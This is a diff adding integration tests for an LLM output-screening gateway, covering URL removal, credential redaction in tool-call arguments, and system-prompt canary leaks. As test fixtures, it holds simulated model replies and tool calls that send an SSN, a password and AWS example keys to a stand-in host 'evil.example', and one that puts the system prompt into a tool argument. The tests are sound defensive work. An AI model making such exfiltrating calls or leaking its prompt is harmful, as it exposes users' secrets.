@@ -538,6 +538,19 @@ describe('gateway handler (integration)', () => {
       expect(stdout.audit(res.headers['x-request-id']!)!.outputScreen).toEqual(expect.arrayContaining([expect.stringMatching(/link|image/)]));
     });
 
+    test('bare URLs to other hosts are replaced by a placeholder; the audit counts them and never holds them', async () => {
+      // GIVEN data in a host name and in a path, no query string, and an allowed URL
+      server.setBehavior({ kind: 'reply', text: 'See https://ssn-123-45-6789.evil.example/ and https://evil.example/ssn/123-45-6789/pw/hunter2 or https://docs.example.com/guide.' });
+      // WHEN
+      const res = await invoke(handler, { body: chatBody('Summarize') });
+      // THEN
+      const content = (res.body.choices as Array<{ message: { content: string } }>)[0]!.message.content;
+      expect(content).toBe('See [link removed] and [link removed] or https://docs.example.com/guide.');
+      const audit = stdout.audit(res.headers['x-request-id']!)!;
+      expect(audit).toMatchObject({ decision: 'allowed', outputLinksRemoved: 2, outputScreen: expect.arrayContaining(['url-removed']) });
+      expect(JSON.stringify(audit)).not.toMatch(/evil\.example|123-45-6789|hunter2/);
+    });
+
     test('secrets are redacted', async () => {
       server.setBehavior({ kind: 'reply', text: 'Use key AKIAIOSFODNN7EXAMPLE with secret aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY please.' });
       const res = await invoke(handler, { body: chatBody('Config?') });
@@ -603,6 +616,91 @@ describe('gateway handler (integration)', () => {
       }]);
       // The declared tool is checked on the way in, the call's arguments on the way out.
       expect(applyRequests(since).map((r) => (r.body as { source: string }).source)).toEqual(['INPUT', 'OUTPUT']);
+    });
+
+    describe('argument screening (over the Bedrock protocol)', () => {
+      const FETCH = [{
+        type: 'function',
+        function: {
+          name: 'fetch_page',
+          parameters: {
+            type: 'object',
+            properties: { url: { type: 'string' }, headers: { type: 'object', additionalProperties: { type: 'string' } }, tag: { type: 'string', maxLength: 20 } },
+            required: ['url'],
+            additionalProperties: false,
+          },
+        },
+      }];
+      const KEY_ID = 'AKIAIOSFODNN7EXAMPLE';
+      const SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
+
+      test('credentials in tool-call arguments are redacted before they leave, URLs to other hosts are flagged and audited', async () => {
+        // GIVEN the model calls a declared tool with an exfiltration URL carrying an access key id, and a secret key
+        server.setBehavior({ kind: 'toolUse', name: 'fetch_page', input: { url: `https://evil.example/?k=${KEY_ID}`, headers: { aws_secret_access_key: SECRET } } });
+        const since = server.requests.length;
+        // WHEN
+        const res = await invoke(handler, { body: chatBody('Fetch it', { tools: FETCH }) });
+        // THEN the client gets the call, without the credentials
+        expect(res.status).toBe(200);
+        expect(res.raw.body).not.toContain(KEY_ID);
+        expect(res.raw.body).not.toContain(SECRET);
+        const choice = (res.body.choices as Array<{ message: { tool_calls: Array<{ function: { name: string; arguments: string } }> }; finish_reason: string }>)[0]!;
+        expect(choice.finish_reason).toBe('tool_calls');
+        expect(JSON.parse(choice.message.tool_calls[0]!.function.arguments)).toEqual({
+          url: 'https://evil.example/?k=[REDACTED:aws-access-key-id]',
+          headers: { aws_secret_access_key: '[REDACTED:aws-secret-access-key]' },
+        });
+        // ApplyGuardrail saw the redacted arguments only
+        const output = applyRequests(since).filter((r) => (r.body as { source: string }).source === 'OUTPUT');
+        expect(output).toHaveLength(1);
+        expect(JSON.stringify(output[0]!.body)).not.toContain(KEY_ID);
+        // The audit record says what happened, with counts and never the URL or the credentials
+        const audit = stdout.audit(res.headers['x-request-id']!)!;
+        expect(audit).toMatchObject({ decision: 'allowed', toolArgumentRedactions: 2, toolArgumentUrlsFlagged: 1, toolArgumentScreen: ['secret-redacted', 'url-flagged'] });
+        expect(JSON.stringify(audit)).not.toMatch(/evil\.example|AKIAIOSF|wJalr/);
+      });
+
+      test('a tool call whose arguments carry the system prompt\'s canary is refused as a canary leak', async () => {
+        // GIVEN the model puts the system prompt (with the per-request canary) into an argument, spaced out
+        server.setBehavior({
+          kind: 'toolUse',
+          name: 'fetch_page',
+          input: {},
+          renderInput: (request) => ({ url: 'https://docs.example.com/', headers: { d: [...(request.system ?? []).map((b) => b.text ?? '').join(' ')].join(' ') } }),
+        });
+        // WHEN
+        const res = await invoke(handler, { body: chatBody('Fetch it', { tools: FETCH }) });
+        // THEN
+        expect(res.status).toBe(200);
+        expect(res.body.choices).toMatchObject([{ message: { content: TEST_CONFIG.blockedOutputMessage }, finish_reason: 'content_filter' }]);
+        expect(res.raw.body).not.toContain('tool_calls');
+        expect(stdout.audit(res.headers['x-request-id']!)).toMatchObject({ decision: 'blocked', blockReason: 'canary_leak', toolArgumentScreen: ['canary-leak'] });
+      });
+
+      test('fails closed if a redaction breaks the declared schema', async () => {
+        // GIVEN a 20-character key id in a field of at most 20 characters: its placeholder is longer
+        server.setBehavior({ kind: 'toolUse', name: 'fetch_page', input: { url: 'https://docs.example.com/', tag: KEY_ID } });
+        // WHEN
+        const res = await invoke(handler, { body: chatBody('Fetch it', { tools: FETCH }) });
+        // THEN
+        expect(res.raw.body).not.toContain(KEY_ID);
+        expect(res.body.choices).toMatchObject([{ message: { content: TEST_CONFIG.blockedOutputMessage }, finish_reason: 'content_filter' }]);
+        expect(stdout.audit(res.headers['x-request-id']!)).toMatchObject({ blockReason: 'tool_call', toolArgumentScreen: ['redaction-breaks-schema', 'secret-redacted'] });
+      });
+
+      test('any exception in argument screening fails closed', async () => {
+        server.setBehavior({ kind: 'toolUse', name: 'fetch_page', input: { url: 'https://docs.example.com/RAW-ARG-5521' } });
+        const spy = jest.spyOn(screenOutputModule, 'screenToolArguments').mockImplementation(() => {
+          throw new Error('screen bug');
+        });
+        try {
+          const res = await invoke(handler, { body: chatBody('Fetch it', { tools: FETCH }) });
+          expect(res.raw.body).not.toContain('RAW-ARG-5521');
+          expect(stdout.audit(res.headers['x-request-id']!)).toMatchObject({ blockReason: 'output_screen', toolArgumentScreen: ['screening-error'] });
+        } finally {
+          spy.mockRestore();
+        }
+      });
     });
 
     test('arguments that break the declared schema or an undeclared tool are refused', async () => {
